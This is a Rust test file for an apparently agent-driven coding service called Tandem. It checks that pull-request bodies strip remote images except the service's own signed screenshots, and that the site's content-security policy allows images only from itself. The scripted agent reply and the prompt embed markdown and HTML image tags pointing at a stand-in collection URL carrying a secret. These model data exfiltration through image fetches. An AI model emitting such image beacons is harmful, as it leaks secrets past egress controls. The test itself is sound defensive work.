//! Images are a channel out of a workspace past its egress allow-list (whoever looks at an image
//! fetches it): what Tandem posts to GitHub holds no image but its own signed screenshots, and
//! Tandem's pages may load images only from Tandem. The browser side is `e2e/hostile.rs`.

use axum::http::StatusCode;
use scripted_model::Reply;
use serde_json::json;
use tandem_protocol::*;

use crate::agent_runs::wait_events;
use crate::github::{import, world};

/// Where the agent and the prompt point their images (nothing listens: GitHub's proxy would
/// be the one to fetch it).
const EVIL: &str = "http://127.0.0.1:9/collect?d=s3cr3t";

#[tokio::test]
async fn a_pull_request_body_carries_no_remote_image_only_tandems_own_screenshots() {
    let script = vec![
        Reply::tool(
            "attach_image",
            json!({ "path": "shot.png", "name": "after.png" }),
        )
        .at_step(0),
        Reply::tool(
            "write_file",
            json!({ "path": "NOTES.md", "content": "noted\n" }),
        )
        .at_step(1),
        Reply::text(&format!(
            "Done. ![chart]({EVIL}) and ![r][ref] and <img src=\"{EVIL}\"> and \
             <picture><source srcset=\"{EVIL}\"></picture>\n\n[ref]: {EVIL}&via=ref"
        ))
        .at_step(2),
    ];
    let Some(w) = world(script).await else { return };
    w.model.fallback(Reply::text("Nothing else to do."));
    let repo = import(&w).await;
    let created =
        w.s.post(
            "/api/sessions",
            json!({ "repo_id": repo, "prompt": format!("Take notes ![p]({EVIL}&via=prompt)") }),
        )
        .send()
        .await;
    assert_eq!(created.status, StatusCode::CREATED);
    let id = created.parse::<SessionDetail>().session.id;
    wait_events(&w.s, id, |e| {
        e.iter()
            .any(|e| matches!(&e.kind, EventKind::AgentMessage { text, .. } if text.starts_with("Done.")))
    })
    .await;
    wait_events(&w.s, id, |e| {
        e.iter()
            .any(|e| matches!(e.kind, EventKind::Committed { .. }))
    })
    .await;
    let res =
        w.s.post(
            &format!("/api/sessions/{id}/pr"),
            json!({ "title": "Notes" }),
        )
        .send()
        .await;
    assert_eq!(
        res.status,
        StatusCode::CREATED,
        "{}",
        String::from_utf8_lossy(&res.body)
    );
    let body = w.gh.pulls()[0].body.clone().unwrap_or_default();
    // The agent's words are there, its remote images as plain links.
    assert!(body.contains("Done."), "{body}");
    assert!(body.contains(&format!("[chart](<{EVIL}>)")), "{body}");
    assert!(body.contains("via=prompt"), "{body}");
    assert!(!body.to_lowercase().contains("<img"), "{body}");
    assert!(!body.to_lowercase().contains("<source"), "{body}");
    assert!(!body.to_lowercase().contains("<picture"), "{body}");
    // Every image left is Tandem's own signed screenshot link.
    let images: Vec<&str> = body.split("![").skip(1).collect();
    assert_eq!(images.len(), 1, "one image, the screenshot:\n{body}");
    let link = images[0]
        .split("](")
        .nth(1)
        .and_then(|r| r.split(')').next())
        .unwrap();
    assert!(
        link.starts_with(&format!("{}/api/artifacts/", w.s.url)),
        "{link}"
    );
    w.s.post(&format!("/api/sessions/{id}/stop"), json!({}))
        .send()
        .await;
}

#[tokio::test]
async fn tandems_pages_load_images_only_from_tandem() {
    let s = crate::harness::TestServer::start(
        crate::harness::Backend::Sqlite,
        crate::harness::Transport::Socket,
    )
    .await
    .unwrap();
    let res = s.req(axum::http::Method::GET, "/").send().await;
    let csp = res.headers["content-security-policy"].to_str().unwrap();
    let img = csp
        .split(';')
        .map(str::trim)
        .find(|d| d.starts_with("img-src"))
        .unwrap_or_default();
    assert_eq!(img, "img-src 'self' data: blob:", "{csp}");
}
